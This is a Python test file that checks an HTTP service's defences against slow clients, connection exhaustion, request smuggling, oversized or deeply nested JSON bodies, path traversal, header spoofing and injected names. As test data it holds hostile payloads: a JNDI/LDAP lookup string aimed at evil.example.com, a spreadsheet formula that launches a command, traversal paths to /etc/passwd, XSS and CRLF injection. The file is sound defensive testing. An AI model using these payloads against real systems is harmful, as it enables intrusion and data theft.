"""Abuse: slow clients, huge and deep bodies, tricks with headers, paths and names."""

from __future__ import annotations

import json
import socket
import ssl
from contextlib import ExitStack, closing, suppress
from typing import TYPE_CHECKING, Any

import pytest
import trustme

from service.connections import _REFUSAL
from tests.rest.running import Service, fresh_settings, running
from tests.support.patience import PATIENCE_SECONDS, wait_until

if TYPE_CHECKING:
    from collections.abc import Iterator

    import httpx

pytestmark = pytest.mark.kafka
JSON = {"Content-Type": "application/json"}
# Clients of the impatient service send nothing more, so that only they wait for this time.
_SECONDS = 0.5
_CONNECTIONS = 5


@pytest.fixture(scope="module", params=["http", "https"])
def impatient(
    request: pytest.FixtureRequest,
    kafka_bootstrap: str,
    tmp_path_factory: pytest.TempPathFactory,
) -> Iterator[Service]:
    """Run a service with short times for requests, and few connections."""
    changes: dict[str, object] = {
        "request_timeout_seconds": _SECONDS,
        "max_connections": _CONNECTIONS,
    }
    if request.param == "https":
        certificate = tmp_path_factory.mktemp("tls") / "service.pem"
        own = trustme.CA().issue_cert("127.0.0.1")
        own.private_key_and_cert_chain_pem.write_to_path(str(certificate))
        changes |= {"tls_certificate": certificate, "tls_key": certificate}
    with running(fresh_settings(kafka_bootstrap, **changes)) as found:
        found.client.close()
        yield found


def connect_to(service: Service) -> socket.socket:
    """Return a TCP connection, without TLS."""
    url = service.client.base_url
    return socket.create_connection((url.host, url.port), PATIENCE_SECONDS)


def connect(service: Service) -> socket.socket:
    connection = connect_to(service)
    if service.client.base_url.scheme == "http":
        return connection
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    with ExitStack() as undone:
        undone.callback(connection.close)
        secured = context.wrap_socket(connection)
        undone.pop_all()
    return secured


def is_refused(service: Service, opened: ExitStack) -> bool:
    """Return whether a further connection is refused; with TLS, before its handshake."""
    try:
        connection = opened.enter_context(closing(connect(service)))
    except (ConnectionError, ssl.SSLError):
        return True
    return rest_of(connection).startswith(b"HTTP/1.1 503")


def answer_to(service: Service, sent: bytes) -> bytes | None:
    """Return the answer until the service closes the connection; None: it was closed too early."""
    with suppress(ConnectionError, ssl.SSLError), closing(connect(service)) as connection:
        connection.sendall(sent)
        return rest_of(connection)
    return None


def rest_of(connection: socket.socket) -> bytes:
    """Return the bytes until the service closes the connection."""
    found = b""
    try:
        while part := connection.recv(65_536):
            found += part
    except (ConnectionError, ssl.SSLError):
        return found
    return found


@pytest.mark.parametrize(
    "sent",
    [
        b"",
        b"G",
        b"GET /livez HTTP/1.1\r\n",
        b"GET /livez HTTP/1.1\r\nHost: localhost\r\nX-Slow: ",
    ],
)
def test_client_that_never_completes_a_header_is_cut_off(impatient: Service, sent: bytes) -> None:
    # A busy machine may take longer to send than the service waits.
    wait_until(lambda: answer_to(impatient, sent) == b"")


def test_client_that_never_completes_a_body_gets_408(impatient: Service) -> None:
    sent = (
        b"PUT /v1/streams/x HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
        b'Content-Length: 1000\r\n\r\n{"topic":'
    )

    def is_answered() -> bool:
        answer = answer_to(impatient, sent) or b""
        said = b'"error_code":40801' in answer and b"must arrive within 0.5 s" in answer
        return answer.startswith(b"HTTP/1.1 408 ") and said

    wait_until(is_answered)


def test_body_that_nobody_reads_does_not_keep_a_connection(impatient: Service) -> None:
    sent = b"GET /livez HTTP/1.1\r\nHost: localhost\r\nContent-Length: 99\r\n\r\n{"
    wait_until(lambda: b'{"live":true}' in (answer_to(impatient, sent) or b""))


def test_further_connections_are_refused(impatient: Service) -> None:
    request = b"GET /livez HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n"

    def is_full() -> bool:
        with ExitStack() as opened:
            # Without TLS: these connections send nothing.
            for _ in range(_CONNECTIONS):
                opened.enter_context(closing(connect_to(impatient)))
            return is_refused(impatient, opened)

    def is_answered() -> bool:
        with suppress(ConnectionError, ssl.SSLError), closing(connect(impatient)) as connection:
            connection.sendall(request)
            return rest_of(connection).startswith(b"HTTP/1.1 200")
        return False

    # Idle connections are cut off after a time, so that one attempt may come too late.
    wait_until(is_full)
    wait_until(is_answered)


def test_silent_connections_are_cut_off_also_before_tls(impatient: Service) -> None:
    with ExitStack() as opened:
        silent = [opened.enter_context(closing(connect_to(impatient))) for _ in range(40)]
        answers = [rest_of(it) for it in silent]
    # Without TLS, those above the limit get the reason.
    assert set(answers) <= {b"", _REFUSAL}


def answer_on(connection: socket.socket) -> bytes:
    """Return an answer of /livez; over TLS, its body arrives after its header."""
    found = b""
    while not found.endswith(b"}") and (part := connection.recv(65_536)):
        found += part
    return found


def test_older_connections_are_answered_while_further_ones_are_refused(impatient: Service) -> None:
    request = b"GET /livez HTTP/1.1\r\nHost: localhost\r\n\r\n"

    def is_answered() -> bool:
        with ExitStack() as opened, suppress(ConnectionError, ssl.SSLError):
            first = opened.enter_context(closing(connect(impatient)))
            first.sendall(request)
            answered = answer_on(first).startswith(b"HTTP/1.1 200")
            for _ in range(_CONNECTIONS):
                opened.enter_context(closing(connect_to(impatient)))
            refused = is_refused(impatient, opened)
            first.sendall(request)
            return answered and refused and answer_on(first).startswith(b"HTTP/1.1 200")
        return False

    # Connections are cut off after a time, so that one attempt may come too late.
    wait_until(is_answered)


def test_client_that_reads_nothing_is_cut_off(impatient: Service) -> None:
    request = b"GET /console/console.css HTTP/1.1\r\nHost: localhost\r\n\r\n"

    def is_cut_off() -> bool:
        # Connections of an earlier test may still count: this one may be refused.
        with suppress(ConnectionError, ssl.SSLError), closing(connect(impatient)) as connection:
            sent = 0
            try:
                while True:
                    connection.sendall(request)
                    sent += 1
            except (ConnectionError, ssl.SSLError):
                return sent > 0
        return False

    wait_until(is_cut_off)


@pytest.mark.parametrize(
    "request_line",
    [
        b"GET /livez HTTP/1.1\r\nHost: localhost\r\nX-Large: " + b"x" * 200_000,
        b"GET /livez HTTP/1.1\r\nHost: localhost\r\nHost : twice",
        b"GET /livez HTTP/1.1\r\nHost: localhost\r\nContent-Length: 1\r\nContent-Length: 2",
        b"GET /livez HTTP/1.1\r\nHost: localhost\r\nContent-Length: -1",
        b"GET /\x00livez HTTP/1.1\r\nHost: localhost",
        b"GET / livez HTTP/1.1\r\nHost: localhost",
        b"\x16\x03\x01\x02\x00\x01\x00",
    ],
)
def test_request_that_is_not_valid_http_is_refused(service: Service, request_line: bytes) -> None:
    with closing(connect(service)) as connection:
        connection.sendall(request_line + b"\r\n\r\n")
        assert rest_of(connection).startswith(b"HTTP/1.1 400 ")


def test_second_request_cannot_hide_in_the_first(service: Service) -> None:
    """Both lengths in one request: proxies and services could disagree on its end."""
    smuggled = b"DELETE /v1/streams/x HTTP/1.1\r\nHost: localhost\r\n\r\n"
    request = (
        b"GET /livez HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n"
        b"Content-Length: 4\r\nConnection: close\r\n\r\n0\r\n\r\n" + smuggled
    )
    with closing(connect(service)) as connection:
        connection.sendall(request)
        answer = rest_of(connection)
    assert answer.count(b"HTTP/1.1 ") == 1


@pytest.mark.parametrize(
    ("body", "status", "error_code"),
    [
        (b"x" * 2_000_000, 413, 41301),
        (b"[" * 500_000, 422, 42201),
        (b'{"a":' * 100_000 + b"1" + b"}" * 100_000, 422, 42201),
        (b"[" * 1000 + b"]" * 1000, 422, 42201),
        (b"[" + b"1," * 100_000 + b"1]", 422, 42201),
        (b'{"topic": ' + b"9" * 500_000 + b"}", 422, 42202),
        (b'{"topic": 1e999999999}', 422, 42202),
        (b'{"topic": "\\ud800"}', 422, 42201),
        (b"\xff\xfe{}", 422, 42201),
    ],
)
def test_huge_and_deep_bodies_are_refused(
    client: httpx.Client, body: bytes, status: int, error_code: int
) -> None:
    answer = client.put("/v1/streams/x", content=body, headers=JSON)
    assert (answer.status_code, answer.json()["error_code"]) == (status, error_code)


def test_body_without_a_length_is_limited_too(client: httpx.Client) -> None:
    def parts() -> Iterator[bytes]:
        for _ in range(100):
            yield b"x" * 65_536

    answer = client.put("/v1/streams/x", content=parts(), headers=JSON)
    assert (answer.status_code, answer.json()["error_code"]) == (413, 41301)


@pytest.mark.parametrize(
    "path",
    [
        "/v1/streams/..%2f..%2fetc%2fpasswd",
        "/v1/streams/../../etc/passwd",
        "/v1//streams",
        "/v1/streams/",
        "/v1/streams/x%00",
        "/v1/streams/x%0d%0aSet-Cookie:%20a=b",
        "/v1/streams/%f0%9f%92%a3",
        "/V1/streams",
        "/v1/streams/x;role=admin",
        "/static/../../../etc/passwd",
    ],
)
def test_tricks_with_paths_find_nothing(client: httpx.Client, path: str) -> None:
    answer = client.get(path)
    assert answer.status_code in {404, 422}
    assert "set-cookie" not in answer.headers
    assert "root:" not in answer.text


@pytest.mark.parametrize(
    "headers",
    [
        {"X-HTTP-Method-Override": "DELETE"},
        {"X-Original-URL": "/v1/streams/kept"},
        {"X-Forwarded-For": "127.0.0.1"},
        {"X-Forwarded-Host": "evil.example.com"},
        {"X-Forwarded-Prefix": "/v1"},
        {"Range": "bytes=0-1"},
        {"Accept": "x" * 10_000},
        {"If-None-Match": '"' * 1000},
        {"Upgrade": "websocket", "Connection": "Upgrade"},
        {"Upgrade": "h2c", "Connection": "Upgrade, HTTP2-Settings"},
    ],
)
def test_headers_of_proxies_change_nothing(client: httpx.Client, headers: dict[str, str]) -> None:
    answer = client.get("/v1/streams", headers=headers)
    assert answer.status_code == 200
    assert "evil" not in answer.text


INJECTED = [
    "x\nERROR forged line",
    "x\r\n2026-01-01 INFO forged",
    "\x1b[2J\x1b[31mred",
    '=cmd|"/c calc"!A1',
    "@SUM(1+1)",
    "<script>alert(1)</script>",
    "${jndi:ldap://evil.example.com/a}",
    "%s%n%x",
]


@pytest.mark.parametrize("name", INJECTED)
def test_names_are_refused_before_they_reach_logs_or_tables(
    client: httpx.Client, name: str
) -> None:
    document: dict[str, Any] = {"topic": "t", "max_uncertainty": "1s", "max_delay": "1s"}
    encoded = "".join(f"%{byte:02x}" for byte in name.encode())
    for answer in (
        client.put(f"/v1/streams/{encoded}", json=document),
        client.put("/v1/streams/ok", json=document | {"topic": name}),
        client.put("/v1/config", json={"resources": [{"kind": "stream", "name": name}]}),
        client.get("/v1/alarms", params={"after": name}),
    ):
        # Refused as a name; a path with a slash does not exist.
        assert answer.status_code in {404, 422}
        assert answer.headers["content-type"] == "application/problem+json"
        json.loads(answer.text)
